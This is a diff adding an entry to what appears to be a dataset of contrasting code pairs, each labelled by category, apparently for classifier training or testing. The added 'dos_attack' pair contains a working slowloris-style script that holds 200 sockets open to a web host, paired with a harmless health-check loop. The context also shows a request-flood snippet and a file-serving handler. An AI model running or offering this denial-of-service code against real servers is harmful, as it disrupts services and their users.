@@ -412,6 +412,19 @@ PAIRS = [
      "            print('.')\nhammer('https://shop.example.com/', int(input()))",
      "import requests, time\ndef check(url, n):\n    for _ in range(n):\n        if requests.get(url, timeout=2).ok:\n"
      "            return True\n        time.sleep(0.2)\n    return False\nprint(check('https://shop.example.com/healthz', int(input())))"),
+    ("slow flood: header helpers set on the socket class (send_line, send_header) feeding open sockets one header at "
+     "a time; the same helpers sending a health check's one header and reading the answer", "dos_attack",
+     "import socket, random, time\ndef send_line(self, line):\n    self.send(f'{line}\\r\\n'.encode())\n"
+     "def send_header(self, name, value):\n    self.send_line(f'{name}: {value}')\n"
+     "setattr(socket.socket, 'send_line', send_line)\nsetattr(socket.socket, 'send_header', send_header)\nsocks = []\n"
+     "for _ in range(200):\n    s = socket.create_connection(('shop.example.com', 80))\n    s.send_line('GET / HTTP/1.1')\n"
+     "    socks.append(s)\nwhile True:\n    for s in socks:\n        s.send_header('X-a', random.randint(1, 5000))\n"
+     "    time.sleep(15)",
+     "import socket, time\ndef send_line(self, line):\n    self.send(f'{line}\\r\\n'.encode())\n"
+     "setattr(socket.socket, 'send_line', send_line)\n"
+     "while True:\n    s = socket.create_connection(('shop.example.com', 80))\n"
+     "    s.send_line('GET /healthz HTTP/1.1\\r\\nHost: shop.example.com\\r\\n')\n"
+     "    print(s.recv(64))\n    s.close()\n    time.sleep(60)"),
     ("server: an http.server handler that writes out the file its request path names; one that always sends its "
      "own page", "web_file_hosting",
      "import os\nfrom http.server import BaseHTTPRequestHandler, HTTPServer\nROOT = '/content/drive/MyDrive'\n"
